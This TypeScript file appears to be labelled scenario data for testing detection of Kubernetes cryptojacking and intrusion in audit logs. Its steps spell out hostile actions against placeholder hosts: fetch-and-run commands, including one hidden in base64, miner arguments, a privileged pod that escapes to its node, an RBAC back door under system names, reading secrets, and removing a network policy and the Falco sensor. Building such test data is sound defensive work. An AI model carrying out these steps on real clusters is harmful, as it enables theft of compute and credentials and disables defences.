import { moneroAddress } from '../../support/wallets';
import { iamRole, serviceAccount, type Scenario, type Step } from '../scenario';
import {
  creating,
  cronJob,
  daemonSet,
  deleting,
  deployment,
  execPath,
  job,
  patching,
  pod,
  reading,
  replicaSet,
  replicationController,
  statefulSet,
} from './objects';

/** Outside of every network of the cluster, and inside of its pods and nodes. */
const OUTSIDE = '203.0.113.77';
const ELSEWHERE = '203.0.113.140';
const POD = '10.0.1.17';
const NODE = '10.0.0.10';

const POOL = 'pool.mining.example:3333';
const NODE_NAME = 'ip-192-0-2-10.eu-west-1.compute.internal';

const minerOf = (seed: string): readonly string[] => [
  `--url=stratum+tcp://${POOL}`,
  `--user=${moneroAddress(`dataset-${seed}`)}`,
  '--donate-level=1',
  '--coin=monero',
];

const miner = (seed: string, image = 'docker.io/library/alpine:3.22') => ({ image, args: minerOf(seed) });

const encoded = (script: string): readonly string[] => [
  'sh',
  '-c',
  `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`,
];

const EVERYWHERE = { tolerations: [{ operator: 'Exists' }] };

const ci = serviceAccount('shop', 'ci');

const argoCrd = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'workflows.argoproj.io' },
  spec: {
    group: 'argoproj.io',
    scope: 'Namespaced',
    names: { plural: 'workflows', singular: 'workflow', kind: 'Workflow' },
    versions: [
      {
        name: 'v1alpha1',
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
      },
    ],
  },
};

const workflow = (namespace: string, name: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  metadata: { name, namespace, labels: { 'workflows.argoproj.io/creator': '' } },
  spec: { entrypoint: 'main', templates: [{ name: 'main', container: miner(name) }] },
});

const workflowOwner = (name: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  name,
  uid: '5f0c1f0e-0000-4000-8000-0000000a4609',
  controller: true,
  blockOwnerDeletion: true,
});

const attacker = iamRole('build-agent', 'i-0123456789abcdef0');

/** Everything that an attacker does in a scenario is one step after another, of the same person from the same place. */
const by = (as: Step['as'], from: string, userAgent?: string) => {
  const common = { as, from, ...(userAgent === undefined ? {} : { userAgent }) };
  return {
    mines: (why: string, pods = 0) => ({ ...common, label: 'mining-related' as const, why, pods }),
    attacks: (why: string, pods = 0) => ({ ...common, label: 'other-attack' as const, why, pods }),
    isOdd: (why: string, pods = 0) => ({ ...common, label: 'suspicious' as const, why, pods }),
  };
};

const stolen = by(ci, OUTSIDE);
const anybody = by(undefined, ELSEWHERE, 'Go-http-client/2.0');
const insider = by(serviceAccount('web', 'default', { name: 'front-1', node: NODE_NAME }), POD, 'curl/8.14.1');

export const ATTACKS: readonly Scenario[] = [
  {
    id: 'att-01-loud-deployment',
    title: 'A stolen token of a build account creates a Deployment of a known miner, in the open',
    namespaces: ['shop'],
    steps: [
      creating(
        deployment('shop', 'cache-warmer', { containers: [miner('att-01', 'docker.io/xx/xmrig:6.22')] }, 2),
        stolen.mines('a Deployment of a miner', 2),
      ),
    ],
  },
  {
    id: 'att-02-anonymous-daemonset',
    title: 'Somebody without a name creates a DaemonSet that looks like a part of Kubernetes and tells nothing',
    namespaces: ['default'],
    steps: [
      reading('/api', anybody.isOdd('anonymous discovery')),
      reading('/api/v1/pods?limit=500', anybody.isOdd('anonymous list of all pods')),
      creating(
        daemonSet('default', 'proxy-api', {
          ...EVERYWHERE,
          containers: [{ name: 'proxy-api', image: 'docker.io/example/pause:latest' }],
        }),
        anybody.attacks('an anonymous DaemonSet that bears a name like the components of Kubernetes', 2),
      ),
      deleting('/apis/apps/v1/namespaces/default/daemonsets/proxy-api', anybody.isOdd('it cleans up')),
    ],
  },
  {
    id: 'att-03-rbac-backdoor',
    title: 'Somebody without a name makes a back door that looks like a controller, and a day later mines through it',
    namespaces: ['kube-system'],
    steps: [
      reading('/api/v1/secrets?limit=500', anybody.attacks('anonymous list of all secrets')),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRole',
          metadata: { name: 'system:controller:kube-controller' },
          ...{ rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
        },
        anybody.attacks('a role that may do everything, under a name of the system'),
      ),
      creating(
        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'kube-controller', namespace: 'kube-system' } },
        anybody.attacks('a service account in kube-system'),
      ),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'system:controller:kube-controller' },
          ...{
            roleRef: {
              apiGroup: 'rbac.authorization.k8s.io',
              kind: 'ClusterRole',
              name: 'system:controller:kube-controller',
            },
            subjects: [{ kind: 'ServiceAccount', name: 'kube-controller', namespace: 'kube-system' }],
          },
        },
        anybody.attacks('a binding under a name of the system'),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/kube-system/serviceaccounts/kube-controller/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { expirationSeconds: 31_536_000 } },
        ...anybody.attacks('a token for it that lasts for a year'),
      },
      creating(
        daemonSet('kube-system', 'kube-controller', {
          ...EVERYWHERE,
          containers: [{ name: 'kube-controller', image: 'docker.io/example/kube-controller:1.0.1' }],
        }),
        by(serviceAccount('kube-system', 'kube-controller'), ELSEWHERE).attacks(
          'a DaemonSet in kube-system, by the back door',
          2,
        ),
      ),
      deleting('/apis/apps/v1/namespaces/kube-system/daemonsets/kube-controller', anybody.isOdd('it cleans up')),
    ],
  },
  {
    id: 'att-05-cronjob-respawn',
    title: 'A stolen token creates a schedule whose command is encoded, and again elsewhere',
    namespaces: ['shop-jobs', 'reports'],
    steps: ['shop-jobs', 'reports'].map((namespace) =>
      creating(
        cronJob(namespace, namespace === 'reports' ? 'housekeeping' : 'tidy', '*/10 * * * *', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: encoded(
                `wget -q http://203.0.113.9/a -O /tmp/a; chmod +x /tmp/a; /tmp/a -o ${POOL} -u ${moneroAddress('dataset-att-05')} --donate-level 1`,
              ),
            },
          ],
        }),
        stolen.mines('a schedule that fetches and runs a miner, encoded'),
      ),
    ),
  },
  {
    id: 'att-06-kubeflow-pipelines',
    title: 'Pipelines run public images of a machine-learning framework that fetch what they run',
    namespaces: ['kubeflow'],
    steps: ['tensorflow/tensorflow:latest', 'tensorflow/tensorflow:latest-gpu'].map((image, index) =>
      creating(
        pod('kubeflow', `sequential-pipeline-${index}`, {
          containers: [
            {
              image: `docker.io/${image}`,
              command: ['sh', '-c', 'curl -s http://203.0.113.9/setup.sh | bash'],
              resources: index === 0 ? { requests: { cpu: '3' } } : { limits: { 'nvidia.com/gpu': '1' } },
            },
          ],
        }),
        by(
          serviceAccount('kubeflow', 'pipeline-runner', { name: 'ml-pipeline-0', node: NODE_NAME }),
          POD,
          'argo-workflows/v3.6',
        ).mines('a pod of a pipeline that fetches a script and runs it'),
      ),
    ),
  },
  {
    id: 'att-07-nodes-proxy',
    title: 'A service account with rights on nodes/proxy asks kubelets to run commands in pods',
    namespaces: ['web'],
    steps: [
      reading(`/api/v1/nodes/${NODE_NAME}/proxy/pods`, insider.attacks('the pods of a node, from its kubelet')),
      {
        verb: 'POST',
        path: `/api/v1/nodes/${NODE_NAME}/proxy/run/web/front-1/main?cmd=${encodeURIComponent('wget -qO /dev/shm/a http://203.0.113.9/a')}`,
        ...insider.attacks('a command in a pod, through the kubelet'),
      },
    ],
  },
  {
    id: 'att-08-escape-to-host',
    title: 'A pod with everything it needs to leave its container',
    namespaces: ['dev'],
    steps: [
      creating(
        pod('dev', 'attack-pod-x7k2q1', {
          hostPID: true,
          hostNetwork: true,
          nodeName: NODE_NAME,
          ...EVERYWHERE,
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: ['chroot', '/host', 'sh', '-c', 'curl -s http://203.0.113.9/i.sh | sh'],
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'root', mountPath: '/host' }],
            },
          ],
          volumes: [{ name: 'root', hostPath: { path: '/' } }],
        }),
        by(attacker, OUTSIDE).attacks('a privileged pod with the file system of its node'),
      ),
    ],
  },
  {
    id: 'att-09-open-argo-server',
    title: 'Somebody uses an Argo server without authentication; only the pods tell what the workflow was',
    namespaces: ['argo'],
    before: [argoCrd],
    steps: [
      creating(
        workflow('argo', 'hello-world-8z2lm'),
        by(serviceAccount('argo', 'argo-server', { name: 'argo-server-0', node: NODE_NAME }), POD, 'argo-server').mines(
          'a workflow that mines; its body is not in the audit log',
        ),
      ),
      ...[1, 2].map((index) =>
        creating(
          pod(
            'argo',
            `hello-world-8z2lm-${index}`,
            { containers: [miner('hello-world-8z2lm')] },
            workflowOwner('hello-world-8z2lm'),
          ),
          by(
            serviceAccount('argo', 'argo', { name: 'workflow-controller-0', node: NODE_NAME }),
            POD,
            'workflow-controller',
          ).mines('a pod of the workflow'),
        ),
      ),
    ],
  },
  {
    id: 'att-10-takeover-and-scale-out',
    title: 'A taken-over role lets another one in and scales out a plain image with an inline script',
    namespaces: ['batch', 'kube-system'],
    before: [
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: 'aws-auth', namespace: 'kube-system' },
        data: { mapRoles: '[]' },
      },
    ],
    steps: [
      patching(
        '/api/v1/namespaces/kube-system/configmaps/aws-auth',
        'merge',
        {
          data: {
            mapRoles:
              '- rolearn: arn:aws:iam::111122223333:role/other\n  username: other\n  groups: [system:masters]\n',
          },
        },
        by(attacker, OUTSIDE).attacks('another role becomes system:masters'),
      ),
      creating(
        deployment('batch', 'worker', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: ['sh', '-c', 'apk add -q curl; curl -fsSL http://203.0.113.9/run.sh | sh'],
              resources: { requests: { cpu: '1' } },
            },
          ],
        }),
        by(attacker, OUTSIDE).mines('a Deployment that fetches what it runs', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/batch/deployments/worker/scale',
        'merge',
        { spec: { replicas: 20 } },
        by(attacker, OUTSIDE).isOdd('twenty times as many'),
      ),
    ],
  },
  {
    id: 'att-11-low-and-slow',
    title: 'A renamed miner in an image from the own registry, told by nothing but that it is new',
    namespaces: ['edge'],
    steps: [
      creating(
        deployment('edge', 'nginx-worker', {
          containers: [
            {
              image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/edge/nginx-worker:1.27',
              resources: { limits: { cpu: '600m', memory: '2600Mi' } },
            },
          ],
        }),
        by(iamRole('ci-release', 'release-8841'), OUTSIDE).isOdd('an image that was never seen before', 1),
      ),
    ],
  },
  {
    id: 'att-12-whole-nodes',
    title: 'A first interactive shell, then a Deployment that asks for whole nodes',
    namespaces: ['analytics'],
    before: [pod('analytics', 'notebook-0', { containers: [{ image: 'registry.example/notebook:2.1' }] })],
    steps: [
      {
        ...reading(
          execPath('analytics', 'notebook-0', ['bash'], 'stdin=true&stdout=true&tty=true'),
          by(attacker, OUTSIDE).isOdd('an interactive shell in a pod'),
        ),
        upgrade: true,
      },
      creating(
        deployment(
          'analytics',
          'spark-executor',
          {
            containers: [
              { image: 'docker.io/example/spark:latest', resources: { requests: { cpu: '3500m', memory: '2500Mi' } } },
            ],
          },
          2,
        ),
        by(attacker, OUTSIDE).isOdd('whole nodes for a newcomer', 2),
      ),
    ],
  },
  {
    id: 'att-13-exec-miner',
    title: 'Commands through exec, by both verbs: fetch and run, then a miner with its pool',
    namespaces: ['payments'],
    before: [pod('payments', 'api-0', { containers: [{ image: 'registry.example/payments/api:3.2' }] })],
    steps: [
      {
        ...reading(
          execPath('payments', 'api-0', ['bash'], 'stdin=true&stdout=true&tty=true'),
          by(attacker, OUTSIDE).isOdd('an interactive shell, by somebody who never had one'),
        ),
        upgrade: true,
      },
      {
        ...reading(
          execPath('payments', 'api-0', ['sh', '-c', 'curl -s http://203.0.113.9/i.sh | sh']),
          by(attacker, OUTSIDE).attacks('a download piped to a shell'),
        ),
        upgrade: true,
      },
      {
        ...reading(
          execPath('payments', 'api-0', ['/tmp/.x', ...minerOf('att-13')]),
          by(attacker, OUTSIDE).mines('a miner is started in a running pod'),
        ),
        upgrade: true,
      },
      {
        verb: 'POST',
        path: execPath('payments', 'api-0', ['sh', '-c', `/tmp/.x -o stratum+tcp://${POOL}`]),
        ...by(attacker, OUTSIDE).mines('the same by the older protocol; the server refuses what is not upgraded'),
      },
      patching(
        '/api/v1/namespaces/payments/pods/api-0/ephemeralcontainers',
        'strategic',
        {
          spec: {
            ephemeralContainers: [
              { name: 'debugger', image: 'docker.io/library/alpine:3.22', args: minerOf('att-13') },
            ],
          },
        },
        by(attacker, OUTSIDE).mines('an ephemeral container that mines'),
      ),
    ],
  },
  {
    id: 'att-14-every-kind',
    title: 'The same miner in every kind of workload',
    namespaces: ['kinds'],
    steps: [
      creating(statefulSet('kinds', 'ledger', { containers: [miner('kinds')] }), stolen.mines('a StatefulSet', 1)),
      creating(replicaSet('kinds', 'cache', { containers: [miner('kinds')] }), stolen.mines('a ReplicaSet', 1)),
      creating(
        replicationController('kinds', 'legacy', { containers: [miner('kinds')] }),
        stolen.mines('a ReplicationController', 1),
      ),
      creating(daemonSet('kinds', 'agent', { containers: [miner('kinds')] }), stolen.mines('a DaemonSet', 2)),
      creating(job('kinds', 'report', { containers: [miner('kinds')] }), stolen.mines('a Job', 1)),
      creating(pod('kinds', 'bare', { containers: [miner('kinds')] }), stolen.mines('a pod of its own')),
      creating(
        pod('kinds', 'prepared', {
          containers: [{ image: 'registry.example/app:1' }],
          initContainers: [{ name: 'prepare', ...miner('kinds') }],
        }),
        stolen.mines('an init container'),
      ),
      creating(
        deployment('kinds', 'environment', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              env: {
                POOL_URL: POOL,
                POOL_USER: moneroAddress('dataset-kinds'),
                POOL_PASS: 'x',
                ALGO: 'rx/0',
                DONATE_LEVEL: '1',
              },
            },
          ],
        }),
        stolen.mines('a Deployment whose environment holds it all', 1),
      ),
    ],
  },
  {
    id: 'att-15-every-patch',
    title: 'A miner is patched into workloads that are there, by every form of patch',
    namespaces: ['patched'],
    before: ['strategic', 'merge', 'json', 'apply'].map((name) =>
      deployment('patched', name, { containers: [{ image: 'registry.example/app:1.4' }] }),
    ),
    steps: [
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/strategic',
        'strategic',
        { spec: { template: { spec: { containers: [{ name: 'side', ...miner('patch') }] } } } },
        stolen.mines('one more container, by a strategic patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/merge',
        'merge',
        { spec: { template: { spec: { containers: [{ name: 'main', ...miner('patch') }] } } } },
        stolen.mines('another container, by a merge patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/json',
        'json',
        [{ op: 'add', path: '/spec/template/spec/containers/0/args', value: minerOf('patch') }],
        stolen.mines('other arguments, by a JSON patch', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/patched/deployments/apply',
        'apply',
        {
          apiVersion: 'apps/v1',
          kind: 'Deployment',
          metadata: { name: 'apply', namespace: 'patched' },
          spec: { template: { spec: { containers: [{ name: 'main', args: minerOf('patch') }] } } },
        },
        stolen.mines('other arguments, by server-side apply', 1),
      ),
    ],
  },
  {
    id: 'att-16-tuned-for-mining',
    title: 'A miner without a word of it in its arguments, tuned as only miners are',
    namespaces: ['compute'],
    steps: [
      creating(
        daemonSet('compute', 'kube-proxy', {
          hostNetwork: true,
          priorityClassName: 'system-node-critical',
          ...EVERYWHERE,
          containers: [
            {
              name: 'kube-proxy',
              image: 'docker.io/example/kube-proxy:v1',
              command: [
                'sh',
                '-c',
                'modprobe msr allow_writes=on; sysctl -w vm.nr_hugepages=1280; exec /opt/kube-proxy',
              ],
              securityContext: { privileged: true },
              resources: { requests: { cpu: '1900m' } },
              volumeMounts: [{ name: 'cpu', mountPath: '/dev/cpu' }],
            },
          ],
          volumes: [{ name: 'cpu', hostPath: { path: '/dev/cpu' } }],
        }),
        by(attacker, OUTSIDE).mines('a DaemonSet that sets registers and huge pages of its nodes', 2),
      ),
    ],
  },
  {
    id: 'att-17-fan-out',
    title: 'One template in three namespaces, five times in a minute',
    namespaces: ['team-a', 'team-b', 'team-c'],
    steps: ['team-a', 'team-a', 'team-b', 'team-b', 'team-c', 'team-c'].map((namespace, index) =>
      creating(
        deployment(namespace, `svc-${index}`, {
          containers: [{ image: 'docker.io/example/runtime:latest', command: ['/bin/runtime', '--config', '/etc/r'] }],
        }),
        by(attacker, OUTSIDE).mines('the same template again', 1),
      ),
    ),
  },
  {
    id: 'att-18-around-the-cluster',
    title: 'What an intruder does before and after: probing, secrets, tokens, other names, and taking defences away',
    namespaces: ['vault', 'web-2'],
    before: [
      ...Array.from({ length: 12 }, (_, index) => ({
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: `credentials-${index}`, namespace: 'vault' },
        stringData: { note: 'made up' },
      })),
      { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'deployer', namespace: 'vault' } },
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'NetworkPolicy',
        metadata: { name: 'deny-all', namespace: 'web-2' },
        spec: { podSelector: {}, policyTypes: ['Egress'] },
      },
      daemonSet('web-2', 'falco', { containers: [{ name: 'falco', image: 'docker.io/falcosecurity/falco:0.44.1' }] }),
    ],
    steps: [
      ...['secrets', 'pods/exec', 'nodes/proxy', 'clusterroles'].map((resource) =>
        creating(
          {
            apiVersion: 'authorization.k8s.io/v1',
            kind: 'SelfSubjectAccessReview',
            ...{
              spec: {
                resourceAttributes: {
                  verb: '*',
                  resource: resource.split('/')[0],
                  subresource: resource.split('/')[1] ?? '',
                },
              },
            },
          },
          insider.isOdd('it asks what it may do'),
        ),
      ),
      creating(
        { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', ...{ spec: { namespace: 'vault' } } },
        insider.isOdd('it asks for all its rights'),
      ),
      ...Array.from({ length: 12 }, (_, index) =>
        reading(`/api/v1/namespaces/vault/secrets/credentials-${index}`, insider.attacks('one secret after another')),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/vault/serviceaccounts/deployer/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
        ...insider.attacks('a token of another service account'),
      },
      creating(
        {
          apiVersion: 'authorization.k8s.io/v1',
          kind: 'SubjectAccessReview',
          ...{
            spec: {
              user: 'system:serviceaccount:web:default',
              resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy', name: NODE_NAME },
            },
          },
        },
        by({ username: `system:node:${NODE_NAME}`, groups: ['system:nodes'] }, NODE, 'kubelet/v1.36.4').isOdd(
          'a kubelet asks whether somebody may use it directly',
        ),
      ),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'web-admin' },
          ...{
            roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'web-2' }],
          },
        },
        by(attacker, OUTSIDE).attacks('cluster-admin for a workload'),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/vault/serviceaccounts/deployer/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
        ...by(attacker, OUTSIDE).attacks('a token, in the name of the control plane'),
        impersonating: 'system:kube-controller-manager',
      },
      creating(
        {
          apiVersion: 'admissionregistration.k8s.io/v1',
          kind: 'ValidatingWebhookConfiguration',
          metadata: { name: 'policy-engine' },
          ...{
            webhooks: [
              {
                name: 'validate.example.com',
                admissionReviewVersions: ['v1'],
                sideEffects: 'None',
                failurePolicy: 'Fail',
                clientConfig: { url: 'https://admission.example/validate' },
                rules: [
                  { apiGroups: ['example.com'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['nothings'] },
                ],
              },
            ],
          },
        },
        by(attacker, OUTSIDE).isOdd('a webhook'),
      ),
      patching(
        '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy-engine',
        'json',
        [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }],
        by(attacker, OUTSIDE).attacks('a webhook lets everything pass when it fails'),
      ),
      deleting(
        '/apis/networking.k8s.io/v1/namespaces/web-2/networkpolicies/deny-all',
        by(attacker, OUTSIDE).attacks('the network policy of a namespace is gone'),
      ),
      deleting('/apis/apps/v1/namespaces/web-2/daemonsets/falco', by(attacker, OUTSIDE).attacks('the sensor is gone')),
    ],
  },
];
